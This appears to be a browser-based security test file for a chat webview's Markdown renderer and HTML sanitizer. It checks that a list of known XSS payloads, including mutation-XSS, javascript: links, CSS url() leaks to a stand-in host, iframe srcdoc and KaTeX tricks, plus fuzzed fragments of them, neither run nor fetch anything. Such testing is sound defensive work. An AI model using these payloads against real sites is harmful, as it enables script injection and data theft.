/** What hostile text does in a real browser: nothing. Texts go through the page, HTML through its last gate alone. */
import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import { after, before, describe, test } from 'node:test'
import { build } from 'esbuild'
import fc from 'fast-check'
import type { Browser, Page } from 'playwright-core'
import { needBrowser, openBrowser } from './browser.ts'

/** Draws a text as the chat page does, without React. */
const PAGE = `
  import { createDrawer } from './webview/chat/markdown.ts'
  import { highlight } from './webview/chat/extras_code.ts'
  import { typeset } from './webview/chat/extras_math.ts'
  import { sanitize } from './webview/chat/sanitize.ts'
  const root = document.getElementById('root')
  window.show = html => { root.innerHTML = sanitize(html) }
  window.draw = text => {
    const blocks = createDrawer({ highlight, typeset }, { copy: 'Copy' }).draw(text)
    root.innerHTML = sanitize(blocks.map(block => 'html' in block ? block.html : highlight(block.code, block.language) ?? '').join(''))
    return blocks.length
  }
  window.lost = text => {
    const html = createDrawer({ typeset }, { copy: 'Copy' }).draw(text).map(({ html }) => html).join('')
    const raw = new DOMParser().parseFromString(html, 'text/html')
    root.innerHTML = sanitize(html)
    const names = (from, pick) => new Set([...from.querySelectorAll('*')].flatMap(pick))
    const minus = pick => [...names(raw.body, pick).difference(names(root, pick))]
    return {
      tags: minus(one => [one.nodeName]),
      attributes: minus(one => one.getAttributeNames().map(name => one.nodeName + ' ' + name)).filter(name => !name.endsWith(' style')),
    }
  }
  window.look = () => ({
    hit: window.hit,
    elements: [...root.querySelectorAll('script, iframe, frame, object, embed, form, input, textarea, select, style, link, meta, base, svg, audio, video, source, picture, portal, template, slot, dialog')].map(one => one.nodeName),
    attributes: [...root.querySelectorAll('*')].flatMap(one => one.getAttributeNames().filter(name =>
      /^on|^style$|^id$|^name$|^srcset$|^action$|^formaction$|^background$|^poster$|^xlink:href$|^srcdoc$|^ping$/.test(name) ||
      (name === 'href' && !/^(https?:\\/\\/|mailto:)/i.test(one.getAttribute(name))) ||
      (name === 'src' && !/^data:image\\/(png|jpeg|gif|webp);/i.test(one.getAttribute(name)))).map(name => one.nodeName + ' ' + name)),
  })
`
const POLICY = "default-src 'none'; script-src 'self'; img-src 'self' data:"

const EVIL = 'http://192.0.2.1/'
const ATTACKS = [
  '<svg onload=hit=1>',
  '<svg><script>hit=1</script></svg>',
  `<svg><image href="${EVIL}x.svg"/><use href="${EVIL}#a"/></svg>`,
  `<svg><style>*{background:url(${EVIL})}</style></svg>`,
  '<svg><foreignObject><img src=x onerror=hit=1></foreignObject></svg>',
  '<svg><animate onbegin=hit=1 attributeName=x dur=1s>',
  `<math href="javascript:hit=1">x</math>`,
  `<math><mrow href="${EVIL}"><mi>x</mi></mrow></math>`,
  `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:hit=1">x</maction></math>`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit=1&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hit=1></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit=1>',
  `<p style="background:url(${EVIL}?secret)">x</p>`,
  `<style>input[value^=a]{background:url(${EVIL}a)}</style>`,
  `<style>@import '${EVIL}'</style>`,
  `<link rel=stylesheet href=${EVIL}>`,
  `<link rel=prefetch href=${EVIL}>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href=${EVIL}>`,
  `<img srcset="${EVIL} 1x" src="${EVIL}">`,
  `<table background="${EVIL}"><td background=${EVIL}>x`,
  `<body background=${EVIL} onload=hit=1>`,
  `<video poster=${EVIL}><source src=${EVIL} onerror=hit=1></video>`,
  `<audio src=${EVIL} autoplay onerror=hit=1></audio>`,
  '<iframe src="javascript:parent.hit=1"></iframe>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.hit=1</script>"></object>',
  '<embed src="data:image/svg+xml,<svg onload=hit=1>">',
  '<a href="data:text/html,<script>hit=1</script>">x</a>',
  '<a href="java\tscript:hit=1">x</a>',
  '<a href="&#x6A;avascript:hit=1">x</a>',
  '<a href=" javascript:hit=1">x</a>',
  `<a href="${EVIL}" ping="${EVIL}">x</a>`,
  `<form action=${EVIL}><button formaction=javascript:hit=1>x</button></form>`,
  '<details open ontoggle=hit=1>x</details>',
  '<button autofocus onfocus=hit=1>x</button>',
  '<div id=hit name=hit>x</div><a id=getElementById>x</a>',
  '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
  '<template><script>hit=1</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=hit=1>">',
  '<select><template><img src=x onerror=hit=1>',
  '<!--><img src=x onerror=hit=1>-->',
  '<![CDATA[<img src=x onerror=hit=1>]]>',
  '<img src="data:image/svg+xml,<svg onload=hit=1 xmlns=http://www.w3.org/2000/svg/>">',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](javascript&#58;hit=1)',
  '[x](<javascript:hit=1>)',
  '<javascript:hit=1>',
  `![x](${EVIL}a.png "t")`,
  '[x]: javascript:hit=1\n\n[x]',
  '$\\href{javascript:hit=1}{x}$',
  `$\\url{${EVIL}}$ $\\includegraphics{${EVIL}x.png}$`,
  '$\\htmlStyle{background:url(//192.0.2.1)}{x}$ $\\htmlId{hit}{x}$',
  '$\\def\\a{\\a\\a}\\a$',
  '$\\unicode{60}script\\unicode{62}$ $\\text{<img src=x onerror=hit=1>}$',
  '```html\n<img src=x onerror=hit=1>\n```',
  '```"onmouseover="hit=1\nx\n```',
  '~~~<script>\nx\n~~~',
]
const SCRAPS = [
  ...[
    '<',
    '>',
    '</',
    '/>',
    '"',
    "'",
    '=',
    ' ',
    '\n',
    '\n\n',
    '&lt;',
    '&#60;',
    '\0',
    '\u200b',
    '\u202e',
    '\u2066',
    'א',
    '<!--',
    '-->',
    ']]>',
  ],
  ...[
    '`',
    '```',
    '$',
    '$$',
    '\\(',
    '\\)',
    '|',
    '|---|',
    '> ',
    '- ',
    '[',
    '](',
    ')',
    '![',
    'javascript:',
    'data:',
    'onerror=hit=1',
    'style=',
  ],
  ...[
    'svg',
    'math',
    'mtext',
    'mglyph',
    'style',
    'img',
    'script',
    'a',
    'p',
    'table',
    'annotation-xml',
    'title',
    'template',
    'noscript',
    'foreignObject',
  ],
]

describe('hostile text', needBrowser(), () => {
  const closers: (() => Promise<void> | void)[] = []
  let browser: Browser
  let page: Page
  const outside: string[] = []
  const mistakes: string[] = []
  before(async () => {
    const made = await build({
      stdin: { contents: PAGE, resolveDir: `${import.meta.dirname}/../..`, loader: 'ts' },
      bundle: true,
      write: false,
      format: 'esm',
      target: 'chrome120',
    })
    const script = made.outputFiles[0]!.contents
    const server = createServer((request, response) => {
      const isScript = request.url === '/page.js'
      response.setHeader('content-type', isScript ? 'text/javascript' : 'text/html; charset=utf-8')
      response.setHeader('content-security-policy', POLICY)
      response.end(isScript ? script : '<!doctype html><script type=module src=/page.js></script><div id=root></div>')
    })
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
    closers.push(() => new Promise<void>(resolve => void server.close(() => resolve())))
    browser = await openBrowser({ after: close => void closers.push(close) })
    page = await browser.newPage()
    page.on('request', request => {
      const { protocol, hostname } = new URL(request.url())
      if (/^(https?|wss?):$/.test(protocol) && hostname !== '127.0.0.1') outside.push(request.url())
    })
    page.on('pageerror', error => mistakes.push(error.message))
    const address = server.address()
    await page.goto(`http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}/`)
    await page.waitForFunction(() => 'look' in globalThis)
  })
  after(async () => {
    for (const close of closers.reverse()) await close()
  })

  /** Each text is put into the page; then what the page has of it is looked at. */
  const put = async (how: 'draw' | 'show', texts: string[]): Promise<void> => {
    const found = (await page.evaluate(
      `(async () => {
        const found = []
        for (const text of ${JSON.stringify(texts)}) {
          ${how}(text)
          const seen = look()
          if (seen.hit !== undefined || seen.elements.length + seen.attributes.length > 0) found.push([text, seen])
        }
        // What would run or be fetched does so a little later.
        await new Promise(resolve => requestAnimationFrame(() => setTimeout(resolve)))
        if (look().hit !== undefined) found.push(['later', look()])
        return found
      })()`,
    )) as unknown[]
    assert.deepEqual(found, [])
    assert.deepEqual({ outside, mistakes }, { outside: [], mistakes: [] })
  }

  test('the known attacks do nothing as Markdown, and nothing where the last gate alone stands before them', async () => {
    await put('draw', ATTACKS)
    await put('show', ATTACKS)
    await put(
      'draw',
      ATTACKS.map(attack => `- item\n\n  > | a |\n  > |---|\n  > | ${attack.replaceAll('\n', ' ')} |`),
    )
  })

  test('attacks cut to pieces and put together anew do nothing', async () => {
    const scrap = fc.oneof(
      { arbitrary: fc.constantFrom(...SCRAPS), weight: 3 },
      { arbitrary: fc.constantFrom(...ATTACKS), weight: 1 },
      {
        arbitrary: fc
          .tuple(fc.constantFrom(...ATTACKS), fc.nat(40), fc.nat(40))
          .map(([attack, from, length]) => attack.slice(from, from + length)),
        weight: 2,
      },
    )
    const texts = fc.sample(
      fc.array(scrap, { maxLength: 20 }).map(scraps => scraps.join('')),
      { seed: 4, numRuns: 3000 },
    )
    await put('draw', texts)
    await put('show', texts)
  })

  test('what Markdown makes comes through the gate as it is', async () => {
    const text = [
      '# A *b* **c** ~~d~~ `e`\n\n3. x\n4. y\n\n> q\n\n---\n\n[a](https://example.com "t") <https://example.com> ![p](data:image/png;base64,AAAA)',
      '- ```ts\n  let a\n  ```\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |\n\nline  \nbreak',
      '$\\frac{a}{b} \\sqrt[3]{x} \\sum_{i=1}^n \\hat{x} \\overline{ab} \\color{red}{x} \\mathbf{R} \\boxed{y} \\begin{pmatrix}1&2\\\\3&4\\end{pmatrix} \\underbrace{a}_{b} \\text{và} \\left( x \\right) \\cancel{z}$',
    ].join('\n\n')
    const lost = await page.evaluate(`lost(${JSON.stringify(text)})`)
    assert.deepEqual(lost, { tags: [], attributes: [] })
  })

  test('texts of a size that nobody writes are drawn', async () => {
    const many = 10_000
    const texts = [
      `${'> '.repeat(many)}deep`,
      `${'  '.repeat(100)}- x\n`.repeat(100),
      Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
      'x'.repeat(300_000),
      'word '.repeat(60_000),
      `\`\`\`ts\n${'const a = [1, 2, 3] // and so on\n'.repeat(1500)}`,
      `\`\`\`json\n${'['.repeat(49_000)}`,
      `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(5000)}`,
      `|${' a |'.repeat(2000)}\n|${'---|'.repeat(2000)}\n`,
      '$x$ '.repeat(2000),
      `$${'{'.repeat(2000)}$`,
      `$${'\\frac{'.repeat(300)}1${'}{2}'.repeat(300)}$`,
      `${'\u202e'.repeat(many)}abc${'\u200b'.repeat(many)}`,
      'e\u0301\u0302\u0303\u0304'.repeat(many),
      '**a _b '.repeat(many),
      '[a]('.repeat(many),
      '&amp;'.repeat(many),
    ]
    for (const text of texts) {
      const blocks = await page.evaluate(`draw(${JSON.stringify(text)})`)
      assert.ok(typeof blocks === 'number' && blocks > 0)
    }
    assert.deepEqual({ outside, mistakes }, { outside: [], mistakes: [] })
  })
})
